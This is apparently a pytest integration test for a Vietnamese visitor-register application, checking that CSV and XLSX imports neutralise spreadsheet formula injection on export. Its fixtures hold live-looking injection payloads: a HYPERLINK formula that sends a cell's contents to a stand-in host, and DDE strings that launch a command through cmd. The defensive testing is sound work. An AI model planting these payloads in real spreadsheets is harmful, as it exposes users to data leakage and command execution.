"""A register carrying spreadsheet attacks goes in and comes out as plain text (issue 11, OWASP CSV injection).

Imported by `desk-app import`, exported by `desk-app export` in both formats: no XLSX cell is a formula, every dangerous
CSV cell carries the apostrophe, and the texts come back unchanged when the export is imported again.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from desk_app.cli import main as cli
from desk_app.domain.spreadsheet import FORMULA_STARTS
from desk_app.i18n import vi_transfer as vt
from desk_app.paths import AppPaths
from desk_app.printing.table_file import CSV_ENCODING
from desk_app.services.registry import open_services
from desk_app.services.visits.register import RegisterFilter, SortKey
from tests.integration.test_visit_import import HEADERS, _office, row, write_csv

LINK = '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")'
ATTACKS = {
    vt.V_NAME: LINK,
    vt.V_ADDRESS: "+cmd|' /C calc'!A0",
    vt.V_SUMMARY: "@SUM(1+1)*cmd|' /C calc'!A0",
    vt.V_REMARKS: "\t=1+1",
}
MINUS = "-5 người đến hỏi tiền đền bù"


def _attack_rows() -> list[list[str]]:
    first = row("05/01/2024", ATTACKS[vt.V_NAME], ATTACKS[vt.V_SUMMARY], address=ATTACKS[vt.V_ADDRESS],
                remarks=ATTACKS[vt.V_REMARKS], size="2")  # fmt: skip
    second = row("06/01/2024", "Trần Thị Bích", MINUS, remarks="-1+1")
    return [first, second]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    _office(open_services(AppPaths(data))).close()
    return data


def _import(folder: Path, source: Path) -> None:
    assert cli.main(["--data-dir", str(folder), "import", "visits", str(source)]) == 0


def _export(folder: Path, target: Path) -> None:
    assert cli.main(["--data-dir", str(folder), "export", "visits", str(target)]) == 0


def _stored(folder: Path) -> list[tuple[str, str, str]]:
    services = open_services(AppPaths(folder))
    try:
        rows = services.register.rows(
            services.register.search_ids(RegisterFilter(), SortKey.BOOK, descending=False)
        )
        return [(r.name_address, r.summary, r.remarks) for r in rows]
    finally:
        services.close()


def _expected() -> list[tuple[str, str, str]]:
    # the import trims each cell (the tab of "\t=1+1" goes), and keeps the rest as the text it is
    return [
        (f"{LINK}, {ATTACKS[vt.V_ADDRESS]}", ATTACKS[vt.V_SUMMARY], "=1+1"),
        ("Trần Thị Bích, Ấp 1, xã An Phú", MINUS, "-1+1"),
    ]


@pytest.mark.parametrize("source_kind", [".csv", ".xlsx"])
def test_an_attacking_register_is_stored_and_exported_as_text(
    folder: Path, tmp_path: Path, source_kind: str
) -> None:
    source = tmp_path / f"vao{source_kind}"
    if source_kind == ".csv":
        write_csv(source, _attack_rows())
    else:
        book = Workbook()
        given = book.active
        assert isinstance(given, Worksheet)
        given.append(HEADERS)
        for line in _attack_rows():
            given.append(line)
        for cell in given[2]:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # text that looks like a formula, as Excel stores a quoted entry
        book.save(source)
    _import(folder, source)
    assert _stored(folder) == _expected()

    xlsx, csv_path = tmp_path / "ra.xlsx", tmp_path / "ra.csv"
    _export(folder, xlsx)
    _export(folder, csv_path)

    sheet = load_workbook(xlsx).worksheets[0]
    assert isinstance(sheet, Worksheet)
    cells: list[Any] = [c for r in sheet.iter_rows(min_row=2) for c in r]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {LINK, ATTACKS[vt.V_SUMMARY], ATTACKS[vt.V_ADDRESS], "=1+1", MINUS, "-1+1"} <= texts
    assert all(
        c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    )
    headers = [c.value for c in sheet[1]]
    assert [r[headers.index(vt.V_GROUP)].value for r in sheet.iter_rows(min_row=2)] == [
        2,
        1,
    ]  # numbers stay numbers

    lines = list(csv.reader(io.StringIO(csv_path.read_text(CSV_ENCODING), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for line in lines for cell in line)
    by_header = [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]
    assert by_header[0][vt.V_NAME] == "'" + LINK and by_header[0][vt.V_REMARKS] == "'=1+1"
    assert by_header[1][vt.V_SUMMARY] == "'" + MINUS

    for exported in (xlsx, csv_path):  # the exports read back as the same texts, never as formulas
        again = tmp_path / f"again-{exported.suffix[1:]}"
        _office(open_services(AppPaths(again))).close()
        _import(again, exported)
        assert _stored(again) == _expected()


def test_a_formula_cell_in_an_imported_workbook_never_comes_back_as_a_formula(
    folder: Path, tmp_path: Path
) -> None:
    """A real formula cell (written by a program, so with no value Excel computed) is read as text, not run."""
    source = tmp_path / "vao.xlsx"
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.append(HEADERS)
    sheet.append(row("05/01/2024", "Nguyễn Văn An", "Khiếu nại thu hồi đất", remarks=LINK))
    assert sheet.cell(row=2, column=HEADERS.index(vt.V_REMARKS) + 1).data_type == "f"
    book.save(source)
    _import(folder, source)
    target = tmp_path / "ra.xlsx"
    _export(folder, target)
    out = load_workbook(target).worksheets[0]
    assert isinstance(out, Worksheet)
    assert not [c.coordinate for r in out.iter_rows() for c in r if c.data_type == "f"]
